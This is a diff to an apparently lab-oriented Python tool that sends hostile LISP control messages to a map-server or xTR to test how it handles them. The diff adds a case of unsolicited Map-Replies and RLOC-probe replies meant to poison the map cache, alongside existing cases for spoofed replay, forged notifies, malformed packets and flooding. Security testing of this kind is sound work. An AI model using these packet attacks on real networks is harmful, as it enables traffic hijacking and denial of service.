@@ -21,6 +21,8 @@ Cases (each prints one JSON line: what it sent):
                map-server)
   notify       Map-Notifies signed with the xTR's key whose nonces match no Map-Register the xTR sent, spoofed from
                the map-server's address
+  reply        unsolicited Map-Replies to the xTR (nonces it never sent) mapping an EID prefix to the attacker, and
+               the same as RLOC-probe replies (P bit): map-cache poisoning, if it took them
   garbage      truncated and malformed control messages (see GARBAGE)
   flood        --count plain Map-Requests as fast as the socket takes them
 """
@@ -100,6 +102,11 @@ def map_request(nonce, itr_rloc, eid):
             + struct.pack("!BB", 0, mask_len) + prefix)
 
 
+def map_reply(nonce, records, probe=False):
+    """Map-Reply (RFC 9301 5.4): Type 2, P (probe) bit, record count, nonce, records."""
+    return struct.pack("!BBBBQ", (2 << 4) | (0x08 if probe else 0), 0, 0, len(records), nonce) + b"".join(records)
+
+
 def nonce():
     return int.from_bytes(os.urandom(8), "big") | 1  # never 0: a zero nonce is exempt from the replay check
 
@@ -167,6 +174,8 @@ def read_pcap(path):
     offset, frames = 24, []
     while offset + 16 <= len(data):
         captured = struct.unpack(endian + "I", data[offset + 8:offset + 12])[0]
+        if offset + 16 + captured > len(data):
+            break  # tcpdump is still writing this one
         frames.append(data[offset + 16:offset + 16 + captured])
         offset += 16 + captured
     return frames
@@ -207,7 +216,7 @@ GARBAGE = [
 
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("case", choices=["wrong-hmac", "unknown-key", "foreign", "replay", "notify", "garbage", "flood"])
+    parser.add_argument("case", choices=["wrong-hmac", "unknown-key", "foreign", "replay", "notify", "reply", "garbage", "flood"])
     parser.add_argument("--to", required=True, help="where the messages go (UDP 4342)")
     parser.add_argument("--key", default="lab-key", help="the site's (or xTR's) key")
     parser.add_argument("--eid", default="10.1.0.0/24", help="the legitimate xTR's EID prefix")
@@ -247,14 +256,21 @@ def main():
         report["variants"] = ["198.51.100.0/24", "10.0.0.0/8 (wider than the site)", f"{site_eid} in instance 77",
                               f"{site_eid} with our RLOC plus 203.0.113.0/24"]
     elif args.case == "replay":
-        packets = list(lisp_packets(args.pcap))
-        notifies = {payload[4:12]: ip for (src, dst, ip, payload) in packets
-                    if src == args.to and dst == args.xtr and payload and payload[0] >> 4 == TYPE_MAP_NOTIFY}
-        registers = [(ip, payload) for (src, dst, ip, payload) in packets
-                     if src == args.xtr and dst == args.to and payload and payload[0] >> 4 == TYPE_MAP_REGISTER
-                     and payload[4:12] in notifies]
+        # The capture may be a moment behind the wire: look again for up to 5 s.
+        deadline = time.monotonic() + 5
+        while True:
+            packets = list(lisp_packets(args.pcap))
+            notifies = {payload[4:12]: ip for (src, dst, ip, payload) in packets
+                        if src == args.to and dst == args.xtr and payload and payload[0] >> 4 == TYPE_MAP_NOTIFY}
+            registers = [(ip, payload) for (src, dst, ip, payload) in packets
+                         if src == args.xtr and dst == args.to and payload and payload[0] >> 4 == TYPE_MAP_REGISTER
+                         and payload[4:12] in notifies]
+            if registers or time.monotonic() > deadline:
+                break
+            time.sleep(0.2)
         if not registers:
-            raise SystemExit(f"no Map-Register from {args.xtr} answered by a Map-Notify in {args.pcap}")
+            seen = [(src, dst, payload[:1].hex(), payload[4:12].hex()) for (src, dst, _, payload) in packets]
+            raise SystemExit(f"no Map-Register from {args.xtr} answered by a Map-Notify in {args.pcap}: {seen}")
         ip, payload = registers[-1]
         sender.packet(ip)          # byte for byte, from the xTR's address
         sender.payload(payload)    # the same message from ours
@@ -272,6 +288,11 @@ def main():
             else:
                 sender.payload(message)
         report["variants"] = ["signed, unknown nonce" + (f", from {args.spoof}" if args.spoof else "")]
+    elif args.case == "reply":
+        for _ in range(args.count):
+            sender.payload(map_reply(nonce(), [mapping_record("10.9.0.0/16", [args.rloc], ttl_minutes=1440)]))
+            sender.payload(map_reply(nonce(), [mapping_record("10.9.0.0/16", [args.rloc], ttl_minutes=1440)], probe=True))
+        report["variants"] = ["Map-Reply 10.9.0.0/16 -> us, unknown nonce", "the same as an RLOC-probe reply"]
     elif args.case == "garbage":
         for _ in range(args.count):
             for _, payload, _ in GARBAGE:
